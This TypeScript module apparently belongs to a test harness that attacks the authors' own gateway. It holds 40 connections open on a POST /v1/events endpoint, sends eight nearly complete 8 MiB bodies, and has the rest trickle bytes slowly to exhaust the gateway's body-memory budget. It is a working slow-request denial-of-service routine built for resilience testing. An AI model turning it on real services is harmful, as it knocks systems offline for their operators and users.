import type { Attack } from '../attack.js';
import { holdConnections } from '../held-connections.js';
import { eventHeaders, headOf } from '../http-head.js';

const CONNECTIONS = 40;
const LARGEST_BODY_BYTES = 8 << 20;
/** So many bodies come almost whole; the others fill what these leave. */
const LARGE = 8;
const FIRST_BYTES = Buffer.alloc(LARGEST_BODY_BYTES - 4096, ' ');
const SOME_BYTES = Buffer.alloc(64, ' ');

export const filledBudget: Attack = {
  name: 'filled-budget',
  story:
    'Eight bodies of 8 MiB come almost whole, as much as the gateway takes of all together by default, and many small ones fill the rest, a little at a time and never to their end.',
  door: 'gateway',
  inflict: ({ target, over }) => {
    let opened = 0;
    const small = new WeakSet<object>();
    return holdConnections(
      {
        at: [target.gateway],
        connections: CONNECTIONS,
        reads: true,
        begin: (socket) => {
          const headers = eventHeaders(target, `content-length: ${LARGEST_BODY_BYTES}`);
          socket.write(headOf(target.gateway, 'POST /v1/events', headers));
          if (opened++ < LARGE) socket.write(FIRST_BYTES);
          else small.add(socket);
        },
        again: {
          everyMs: 40,
          do: (socket) => void (small.has(socket) && socket.write(SOME_BYTES)),
        },
      },
      over,
    );
  },
};
